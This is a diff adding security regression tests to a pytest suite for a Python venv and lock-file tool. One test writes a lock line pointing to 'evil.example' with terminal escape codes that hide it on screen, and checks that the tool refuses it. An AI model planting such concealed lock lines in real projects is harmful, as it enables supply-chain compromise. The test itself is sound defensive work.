@@ -15,7 +15,7 @@ import sys
 
 import pytest
 
-from devbox_testkit import ROOT, TEST_IMAGE, LocalMachine, docker, fresh, tagged
+from docker_machines import ROOT, TEST_IMAGE, LocalMachine, docker, fresh, tagged
 
 HOME = "/home/pythonuser"
 VENV = f"{HOME}/project-venv"
@@ -87,6 +87,19 @@ def test_the_first_machines_lock_holds_its_packages_and_the_hand_installed_one(m
     pins = [line for line in lock.splitlines() if line and not line.startswith("#")]
     assert len(pins) == len(freeze(first).splitlines()), "every distribution is pinned"
     assert (locks[FIRST] / COPY).read_text() == lock, "the controller's copy is the same"
+
+
+def test_the_user_cannot_make_a_hand_install_look_requested(machines, locks):
+    """Issue 24, finding 3: the list of requested packages was the user's file in the venv."""
+    first, _ = machines
+    assert first.exec(f"echo '{{\"tabulate\": []}}' > {VENV}/devbox-requested.json", user="pythonuser").returncode == 0
+    rc, output = run(first, locks, {})
+    assert rc == 0, output[-3000:]
+    assert f"{BY_HAND}  # by hand" in machine_lock(first), "the user's list made the hand install look requested"
+    record = f"{HOME}/.devbox/requested-packages.json"
+    assert first.exec(f"stat -c '%U %a' {record}").stdout.split() == ["root", "644"]
+    assert {"six", "python-dateutil"} <= set(json.loads(first.exec(f"cat {record}").stdout))
+    assert first.exec(f"test -e {VENV}/devbox-requested.json").returncode != 0, "the venv's old list is gone"
 
 
 def module_alone(machine, arguments: dict) -> dict:
@@ -165,3 +178,36 @@ def test_a_lock_from_another_python_fails_before_the_venv_changes(machines, lock
     assert f"{other} was made on Python 3.6" in one_line(output)
     assert "take a new lock on a Python 3." in one_line(output)
     assert freeze(second) == before
+
+
+def test_a_hidden_lock_line_is_refused_before_anything_changes(machines, locks):
+    """Issue 24, finding 3: a line that erases itself on a terminal (\\x1b[2K) in a shared lock."""
+    _, second = machines
+    hidden = locks[SECOND] / "hidden.lock"
+    hidden.write_text((locks[FIRST] / COPY).read_text()
+                      + "evil @ https://evil.example/evil-1.0.tar.gz#\x1b[2K\x1b[1A\n")
+    before = freeze(second)
+    rc, output = run(second, locks, {"python_env_lock_file": str(hidden)})
+    assert rc != 0
+    assert "holds a control character" in one_line(output) and "x1b[2K" in output
+    assert "\x1b[2K" not in output
+    assert freeze(second) == before
+
+
+def test_a_token_only_index_url_installs_and_is_never_shown(machines, locks):
+    """Issue 24, finding 4: the Gemfury / Azure forms against the real package index."""
+    _, second = machines
+    variables = {"python_env_index_url": "https://sometoken:@pypi.org/simple",
+                 "python_env_extra_index_urls": ["https://othertoken@pypi.org/simple"],
+                 "python_env_packages": PACKAGES + [EXTRA]}
+    rc, output = run(second, locks, variables, "--check", "--diff")
+    assert rc == 0, output[-3000:]
+    assert "+index-url = https://********:@pypi.org/simple" in output
+    rc, output = run(second, locks, variables, "--diff")
+    assert rc == 0, output[-3000:]
+    assert EXTRA in freeze(second)
+    lock = machine_lock(second)
+    assert "# index: https://********:@pypi.org/simple\n" in lock
+    assert "# extra index: https://********@pypi.org/simple\n" in lock
+    for text in (output, lock, (locks[SECOND] / COPY).read_text()):
+        assert "sometoken" not in text and "othertoken" not in text
